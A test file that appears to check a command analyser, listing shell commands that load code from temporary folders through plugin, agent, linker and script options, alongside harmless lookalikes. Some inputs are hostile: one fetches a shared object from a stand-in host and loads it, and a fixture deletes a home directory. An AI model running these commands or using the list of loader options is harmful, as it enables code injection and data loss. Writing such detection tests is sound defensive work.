import { describe, expect, it } from 'vitest';
import { runAmong } from './written-world.js';

const LOADS = /^execute hidden-command:.* of a passing file$/;

describe('code of a temporary folder that an option makes a program load', () => {
  it.each([
    "gawk --load=/tmp/a.so 'BEGIN{}'",
    "gawk '@load \"/tmp/a\"; BEGIN{}'",
    'gcc-12 -fplugin=/tmp/a.so -c a.c',
    'aarch64-linux-gnu-gcc -wrapper /tmp/a,-x a.c',
    'clang -Xclang -load -Xclang /var/tmp/a.so a.c',
    'ar --plugin /dev/shm/a.so rc a.a a.o',
    'sudo ip6tables -M /tmp/a -L',
    'make LD=/tmp/a all',
    'cargo build --config \'target.wasm32-wasip1.linker="/tmp/a"\'',
    'node --import /tmp/a.mjs src/app.js',
    'jest --reporters=/tmp/a.js',
    'java -agentpath:/tmp/a.so -version',
    'mvn -DargLine=-javaagent:/tmp/a.jar test',
    'php -d zend_extension=/tmp/a.so app.php',
    'cmake -DCMAKE_CXX_COMPILER_LAUNCHER:STRING=/tmp/a -B build',
    'ssh-keygen -D /tmp/a.so',
    "sqlite3 a.db '.load /tmp/a'",
    "fzf --bind 'load:become(sh /tmp/a)'",
    'CXX=/tmp/a go build ./...',
    'RUSTFLAGS="-C linker=/tmp/a" cargo build',
    'nmap -sV --script /tmp/a.nse 10.0.0.1',
    'nmap --script=vuln,/tmp/a.nse box',
    'KUBECTL_EXTERNAL_DIFF=/tmp/a kubectl diff -k deploy',
    'curl -so /tmp/a.so https://x.test/a.so && gawk -l /tmp/a.so 1',
    'make CC=/tmp/b/../bin/../a all',
    `gcc ${'/tmp/a.o '.repeat(100)}-fplugin=/tmp/a.so`,
  ])('%s', async (command) => {
    await expect(command).toTell(LOADS);
  });

  it.each([
    "gawk -l json 'BEGIN{}'",
    'gawk -f /tmp/a.awk b',
    'gcc -fplugin=./build/a.so -o /tmp/a a.c',
    'gcc -shared -o /tmp/a.so a.c && gawk -l /tmp/a.so 1',
    'gcc -I/tmp/inc -L/tmp/lib a.c -lfoo',
    'make CC=clang DESTDIR=/tmp/out install',
    'make PYTHON=/tmp/venv/bin/python test',
    'uv pip install --python /tmp/venv/bin/python requests',
    'CC=/tmp/llvm/bin/clang go build ./...',
    'cmake -DCMAKE_TOOLCHAIN_FILE=cmake/arm.cmake -B /tmp/build',
    'cargo build --target-dir /tmp/target',
    'jest --json --outputFile=/tmp/out.json',
    'vitest run --reporter=junit --outputFile=/tmp/a.xml',
    'java -javaagent:lib/a.jar -Djava.io.tmpdir=/tmp -jar app.jar',
    'ssh -S /tmp/control -O check box',
    'ssh-keygen -s /tmp/ca -I a b.pub',
    "duckdb -c \"COPY (SELECT 1) TO '/tmp/a.parquet'\"",
    "fzf --bind 'ctrl-y:execute(echo {} > /tmp/picked)'",
    'CARGO_TARGET_DIR=/tmp/t cargo build',
    'node /tmp/a.js --import',
    'nmap -oN /tmp/scan.txt --script=vuln box',
    'KUBECTL_EXTERNAL_DIFF="diff -u" kubectl diff -f /tmp/a.yaml',
    `nmap ${'-oN /tmp/a '.repeat(64)}--script=/tmp/a.nse`,
  ])('not in %s', async (command) => {
    await expect(command).not.toTell(LOADS);
  });

  it('which is judged by what stands in it, where the session wrote it', async () => {
    const files = { '/tmp/a.js': 'require("fs").rmSync("/home/u", { recursive: true });\n' };
    await expect(runAmong('node -r /tmp/a.js b.js', files)).toTell('delete -r /home/u');
    await expect(runAmong('node -r /tmp/a.js b.js', files)).not.toTell(LOADS);
  });
});
